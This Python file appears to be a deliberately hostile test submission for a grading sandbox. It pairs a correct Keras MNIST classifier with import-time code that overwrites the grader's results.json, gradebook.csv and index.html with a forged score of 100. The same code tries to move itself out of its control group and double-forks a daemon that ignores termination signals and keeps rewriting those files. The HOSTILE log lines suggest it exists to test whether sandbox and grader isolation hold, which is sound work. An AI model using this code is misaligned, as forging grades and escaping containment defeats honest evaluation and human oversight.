"""Test submission: a correct solution that leaves a daemon behind to forge the grader's output files.

At import it tries once to overwrite each file named in targets.json (beside it: the batch's
results.json files, gradebook.csv, index.html), to move itself out of its control group, and then
double-forks a daemon in a session of its own that ignores SIGTERM and SIGHUP and rewrites every
target each 0.2 s for 10 s. Each attempt is printed on a `HOSTILE {json}` line. If the daemon dies
with the sandbox and no write succeeds, the submission scores like the solution.
"""

import json
import os
import signal
import time
from pathlib import Path

import numpy as np
from tensorflow import keras

TARGETS = json.loads((Path(__file__).parent / "targets.json").read_text())
FORGED = json.dumps({"score": 100.0, "forged": "HOSTILE-FORGED", "tests": []})


def reshape(images):
    return images.reshape(-1, 28, 28, 1)


def normalise(images):
    return images.astype("float32") / 255


def build_model(input_shape=(28, 28, 1), num_classes=10):
    model = keras.Sequential()
    model.add(keras.Input(shape=input_shape))
    model.add(keras.layers.Conv2D(28, kernel_size=(3, 3)))
    model.add(keras.layers.MaxPooling2D(pool_size=(2, 2)))
    model.add(keras.layers.Flatten())
    model.add(keras.layers.Dense(128, activation="relu"))
    model.add(keras.layers.Dropout(0.2))
    model.add(keras.layers.Dense(num_classes, activation="softmax"))
    return model


def compile_model(model):
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model


def predict(model, images):
    return np.argmax(model.predict(images, verbose=0), axis=1)


def _attempt(attack, action):
    try:
        outcome = "succeeded: " + repr(action())[:300]
    except BaseException as exc:  # noqa: BLE001 - any failure is the attack failing
        outcome = f"refused: {type(exc).__name__}: {exc}"[:300]
    print("HOSTILE " + json.dumps({"attack": attack, "outcome": outcome}), flush=True)


def _forge(path):
    with open(path, "w") as handle:
        handle.write(FORGED)


def _leave_cgroup():
    moved = []
    for line in Path("/proc/self/cgroup").read_text().splitlines():
        controllers = line.split(":")[1]
        root = Path("/sys/fs/cgroup") / (controllers.split(",")[0].replace("name=", "") if controllers else "")
        (root / "cgroup.procs").write_text(str(os.getpid()))
        moved.append(str(root))
    return moved


def _daemon():
    """Fork a grandchild in its own session that outlives its parent; return nothing to the parent, once the grandchild
    has said that it started (so that the line is part of what the import printed, however loaded the machine)."""
    started, said = os.pipe()
    middle = os.fork()
    if middle:
        os.close(said)
        os.waitpid(middle, 0)
        os.read(started, 1)  # the grandchild's byte, or the end of the pipe if it died first
        os.close(started)
        return
    try:
        os.close(started)
        os.setsid()
        if os.fork():
            os._exit(0)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        print("HOSTILE " + json.dumps({"attack": "daemon started", "outcome": f"succeeded: uid {os.getuid()}"}), flush=True)
        os.write(said, b"!")
        os.close(said)
        end = time.monotonic() + 10
        while time.monotonic() < end:
            for path in TARGETS["forge"]:
                try:
                    _forge(path)
                except OSError:
                    pass
            time.sleep(0.2)
    finally:
        os._exit(0)


_attempt("uid", os.getuid)
for _path in TARGETS["forge"]:
    _attempt(f"forge {_path}", lambda path=_path: _forge(path))
_attempt("leave the control group", _leave_cgroup)
_daemon()
